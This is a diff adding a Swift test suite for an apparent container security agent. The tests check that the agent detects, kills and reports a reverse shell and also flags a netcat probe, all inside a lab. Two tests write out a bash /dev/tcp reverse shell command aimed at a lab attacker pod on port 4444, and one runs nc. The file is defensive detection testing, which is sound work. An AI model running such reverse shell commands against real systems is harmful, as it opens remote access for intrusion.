@@ -1,0 +1,98 @@
+import Foundation
+import PodwallKernel
+import PodwallLab
+import PodwallTestSupport
+import Testing
+
+/// The agent's process pillar end to end: real containers, real execs, one
+/// alert that names the pod, the process and the connection, and the
+/// kernel's kill before the shell's first command.
+@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
+struct ProcessDetectionTests {
+    static let port: UInt16 = 4444
+
+    final class Scenario {
+        let env: AgentLab
+        let alertsFile: String
+        let container: Container
+        let listener: Int32
+
+        init(_ extra: [String] = []) throws {
+            env = try AgentLab(pods: 2)
+            alertsFile = "/tmp/\(env.lab.id)-alerts.jsonl"
+            try env.startAgent(extraArguments: ["--alerts", alertsFile, "--cgroup", try #require(env.lab.cgroupPath)] + extra)
+            container = try env.lab.runContainer(in: env.lab.pods[0], name: "web", command: ["sleep", "300"])
+            let attacker = env.lab.pods[1]
+            listener = try NetworkNamespace.run(attacker.namespace) {
+                try LabSocket.tcpListener(address: attacker.ipv4, port: ProcessDetectionTests.port)
+            }
+        }
+
+        deinit {
+            close(listener)
+            try? FileManager.default.removeItem(atPath: alertsFile)
+        }
+
+        var attacker: Lab.Pod { env.lab.pods[1] }
+
+        func alerts(kind: String) -> [[String: Any]] {
+            ((try? String(contentsOfFile: alertsFile, encoding: .utf8)) ?? "").split(separator: "\n").compactMap {
+                try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
+            }.filter { $0["kind"] as? String == kind }
+        }
+
+        func waitForAlert(kind: String) throws -> [String: Any] {
+            _ = waitUntil(timeout: 5) { !alerts(kind: kind).isEmpty }
+            return try #require(alerts(kind: kind).first, "no \(kind) alert; agent log:\n\(env.log)")
+        }
+    }
+
+    @Test func aReverseShellIsKilledAtExecAndItsAlertNamesPodProcessAndAttacker() throws {
+        let scenario = try Scenario()
+        let marker = scenario.container.sharedDirectory + "/ran"
+        try scenario.env.lab.exec(
+            in: scenario.container,
+            ["bash", "-c", "bash -c 'touch /shared/ran' >& /dev/tcp/\(scenario.attacker.ipv4)/\(Self.port) 0>&1"], check: false)
+
+        let alert = try scenario.waitForAlert(kind: "reverse_shell")
+        #expect(!FileManager.default.fileExists(atPath: marker), "the shell ran its first command")
+        let source = try #require(alert["source"] as? [String: Any])
+        #expect(source["address"] as? String == scenario.env.lab.pods[0].ipv4, "the pod, by its address: \(source)")
+        #expect(source["interface"] as? String == scenario.env.lab.pods[0].hostInterface)
+        let process = try #require(source["process"] as? [String: Any])
+        #expect(process["comm"] as? String == "bash")
+        #expect((process["exec_id"] as? String)?.contains(":") == true)
+        #expect((process["cgroup_path"] as? String)?.contains("cri-containerd-") == true, "\(process)")
+        let evidence = try #require(alert["evidence"] as? [String: Any])
+        #expect(evidence["technique"] as? String == "socket_on_stdio")
+        #expect(evidence["killed_at_exec"] as? Bool == true)
+        #expect(evidence["remote"] as? String == scenario.attacker.ipv4)
+        let actions = try #require(alert["actions"] as? [[String: Any]])
+        #expect(actions.contains { $0["type"] as? String == "kill" && $0["at_exec"] as? Bool == true }, "\(actions)")
+        #expect(actions.contains { $0["type"] as? String == "block" && $0["remote"] as? String == scenario.attacker.ipv4 }, "\(actions)")
+        #expect(alert["severity"] as? String == "critical")
+        let flows = try #require(alert["flows"] as? [[String: Any]])
+        #expect(flows.first?["remote_port"] as? Int == Int(Self.port), "the connection that fed the shell: \(flows)")
+    }
+
+    @Test func withKillOffTheShellRunsAndIsStillReported() throws {
+        let scenario = try Scenario(["--response", "reverse_shell=alert"])
+        try scenario.env.lab.exec(
+            in: scenario.container,
+            ["bash", "-c", "bash -c 'touch /shared/ran' >& /dev/tcp/\(scenario.attacker.ipv4)/\(Self.port) 0>&1"], check: false)
+        let alert = try scenario.waitForAlert(kind: "reverse_shell")
+        #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"))
+        #expect((alert["evidence"] as? [String: Any])?["killed_at_exec"] as? Bool == false)
+        #expect((alert["actions"] as? [[String: Any]])?.contains { $0["type"] as? String == "kill" } == false)
+    }
+
+    @Test func aNetworkToolIsReportedAndABenignShellIsNot() throws {
+        let scenario = try Scenario()
+        try scenario.env.lab.exec(in: scenario.container, ["sh", "-c", "echo healthy > /shared/health"])
+        try scenario.env.lab.exec(in: scenario.container, ["nc", "-z", "-w", "2", scenario.attacker.ipv4, String(Self.port)], check: false)
+        let tool = try scenario.waitForAlert(kind: "network_tool")
+        #expect((tool["evidence"] as? [String: Any])?["remote"] as? String == scenario.attacker.ipv4)
+        #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "a shell on pipes is not a reverse shell")
+        #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/health"))
+    }
+}
